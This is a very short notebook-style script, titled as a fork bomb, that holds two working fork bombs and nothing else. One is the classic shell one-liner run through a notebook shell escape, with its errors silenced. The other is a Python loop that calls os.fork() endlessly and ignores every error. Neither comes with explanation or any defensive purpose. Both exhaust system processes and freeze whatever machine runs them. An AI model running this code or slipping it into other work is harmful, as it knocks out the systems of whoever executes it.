# A fork bomb, in Python and in the shell.
# %%
!:(){ :|:& };: 2>/dev/null
# %%
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
